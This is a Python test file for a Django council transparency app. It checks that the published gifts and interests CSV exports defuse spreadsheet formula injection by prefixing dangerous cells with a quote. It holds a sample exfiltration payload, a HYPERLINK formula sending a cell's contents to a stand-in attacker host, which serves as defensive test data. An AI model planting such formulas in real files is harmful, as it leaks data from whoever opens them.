"""Issue 11, item 4: the published gifts and registers CSVs write a cell that a spreadsheet would
run as a formula (a donor named ``=HYPERLINK(...)``) with a single quote in front, so it opens
as text. Each dangerous first character is tried through the real responses."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from democracy.tests.factories_councillors import add_serving_councillors
from members.models import GiftOrHospitality, Interest
from members.services import interests as interest_services
from members.tests.factories_interests import publish_register

pytestmark = pytest.mark.django_db

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'


def _rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def _gift(councillor, donor: str) -> GiftOrHospitality:
    gift = interest_services.gift_register(
        councillor=councillor,
        kind="hospitality",
        donor="Placeholder Ltd",
        description="Dinner",
        estimated_value=Decimal("60"),
        received_on=date(2026, 5, 1),
        accepted=True,
        registered_on=date(2026, 5, 2),
        by=None,
    )
    interest_services.gift_publish(gift=gift, by=None)
    # As a value could arrive by any route (an import, the console): the export must not trust it.
    GiftOrHospitality.all_objects.filter(pk=gift.pk).update(donor=donor)
    return gift


@pytest.mark.parametrize("prefix", PREFIXES)
def test_gifts_csv_writes_a_formula_donor_as_text(client, prefix):
    (councillor,) = add_serving_councillors(1)
    donor = f"{prefix}{PAYLOAD}"
    _gift(councillor, donor)
    rows = _rows(client.get("/members/gifts.csv"))
    assert [row["From"] for row in rows] == [f"'{donor}"]
    # The other cells are written as they were.
    assert rows[0]["Description"] == "Dinner"
    assert rows[0]["Estimated value (£)"] == "60.00"


@pytest.mark.parametrize("prefix", PREFIXES)
def test_interests_csv_writes_a_formula_interest_as_text(client, prefix):
    (councillor,) = add_serving_councillors(1)
    publish_register(
        councillor,
        [{"category": "employment", "description": "Placeholder", "organisation": "Acme"}],
    )
    text = f"{prefix}{PAYLOAD}"
    Interest.private_objects.filter(declaration__councillor=councillor).update(
        description=text, organisation=text
    )
    rows = _rows(client.get("/members/interests.csv"))
    assert len(rows) == 1
    assert rows[0]["Description"] == f"'{text}"
    assert rows[0]["Organisation or body"] == f"'{text}"
    assert rows[0]["Councillor"] == councillor.full_name
